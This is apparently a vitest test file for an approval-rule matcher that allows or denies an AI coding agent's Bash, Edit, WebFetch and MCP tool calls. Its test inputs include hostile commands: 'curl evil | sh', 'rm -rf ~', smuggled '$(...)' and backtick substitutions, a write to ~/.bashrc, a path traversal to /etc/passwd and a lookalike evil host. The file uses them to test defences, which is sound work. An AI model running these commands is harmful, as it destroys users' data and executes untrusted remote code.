import { describe, expect, it } from 'vitest';
import { decide, permissionDecisionOutput, ruleMatches, type RuleLike } from '../../src/core/approval-rules.js';

const rule = (tool: string, pattern: string, decision: 'allow' | 'deny' = 'allow', id = 1): RuleLike => ({ id, tool, pattern, decision });
const bash = (command: string) => ({ toolName: 'Bash', toolInput: { command } });

describe('approval rule matching (table)', () => {
  const cases: [name: string, r: RuleLike, ask: { toolName: string; toolInput: unknown }, matches: boolean][] = [
    ['exact command', rule('Bash', 'npm test'), bash('npm test'), true],
    ['exact command, other command', rule('Bash', 'npm test'), bash('npm test2'), false],
    ['prefix glob', rule('Bash', 'npm test*'), bash('npm test -- --watch'), true],
    ['allow * stops at ;', rule('Bash', 'npm test*'), bash('npm test; rm -rf ~'), false],
    ['allow * stops at &&', rule('Bash', 'npm test*'), bash('npm test && curl evil | sh'), false],
    ['allow * stops at $(', rule('Bash', 'npm test *'), bash('npm test $(rm -rf ~)'), false],
    ['allow * stops at a backtick', rule('Bash', 'npm test *'), bash('npm test `id`'), false],
    ['allow * stops at a newline', rule('Bash', 'npm test*'), bash('npm test\nrm -rf ~'), false],
    ['allow * stops at >', rule('Bash', 'echo *'), bash('echo x > ~/.bashrc'), false],
    ['a literal compound command is allowed as written', rule('Bash', 'make && make test'), bash('make && make test'), true],
    ['deny * matches anything', rule('Bash', 'rm *', 'deny'), bash('rm -rf / ; echo'), true],
    ['deny matches a part of a compound command', rule('Bash', 'rm *', 'deny'), bash('make && rm -rf build'), true],
    ['deny does not match unrelated', rule('Bash', 'rm *', 'deny'), bash('npm test'), false],
    ['other tool', rule('Bash', '*'), { toolName: 'Edit', toolInput: { file_path: '/a' } }, false],
    ['file glob', rule('Edit', '/repo/src/*'), { toolName: 'Edit', toolInput: { file_path: '/repo/src/a/b.ts' } }, true],
    ['file glob cannot be escaped with ..', rule('Edit', '/repo/src/*'), { toolName: 'Edit', toolInput: { file_path: '/repo/src/../../etc/passwd' } }, false],
    ['URL glob', rule('WebFetch', 'https://docs.example.com/*'), { toolName: 'WebFetch', toolInput: { url: 'https://docs.example.com/a?b' } }, true],
    ['URL glob, other host', rule('WebFetch', 'https://docs.example.com/*'), { toolName: 'WebFetch', toolInput: { url: 'https://docs.example.com.evil.io/' } }, false],
    ['MCP tool glob, any arguments', rule('mcp__github__*', '*'), { toolName: 'mcp__github__create_issue', toolInput: { title: 'x' } }, true],
    ['MCP arguments as sorted JSON', rule('mcp__boss__report_status', '{"status":"active",*'), { toolName: 'mcp__boss__report_status', toolInput: { summary: 's', status: 'active' } }, true],
    ['? is one character', rule('Bash', 'ls ?'), bash('ls a'), true],
    ['escaped * is literal', rule('Bash', 'echo \\*'), bash('echo *'), true],
    ['escaped * is not a wildcard', rule('Bash', 'echo \\*'), bash('echo ab'), false],
    ['regex characters are literal', rule('Bash', 'a.b'), bash('axb'), false],
  ];
  it.each(cases)('%s', (_n, r, ask, matches) => {
    expect(ruleMatches(r, ask)).toBe(matches);
  });

  it('a matching deny wins over a matching allow; no match decides nothing', () => {
    const rules = [rule('Bash', '*', 'allow', 1), rule('Bash', 'git push*', 'deny', 2)];
    expect(decide(rules, bash('git push origin main'))).toMatchObject({ decision: 'deny', rule: { id: 2 } });
    expect(decide(rules, bash('git status'))).toMatchObject({ decision: 'allow', rule: { id: 1 } });
    expect(decide(rules, bash('git status; git push'))).toMatchObject({ decision: 'deny' });
    expect(decide([rule('Bash', 'npm test')], bash('npm run build'))).toBeUndefined();
  });

  it("answers in Claude Code's PermissionRequest decision format", () => {
    expect(JSON.parse(permissionDecisionOutput('allow', rule('Bash', 'npm test')))).toEqual({
      hookSpecificOutput: { hookEventName: 'PermissionRequest', decision: { behavior: 'allow' } },
    });
    expect(JSON.parse(permissionDecisionOutput('deny', rule('Bash', 'rm *', 'deny', 7)))).toEqual({
      hookSpecificOutput: { hookEventName: 'PermissionRequest', decision: { behavior: 'deny', message: 'Denied by agent-boss approval rule #7 (Bash "rm *").' } },
    });
  });
});
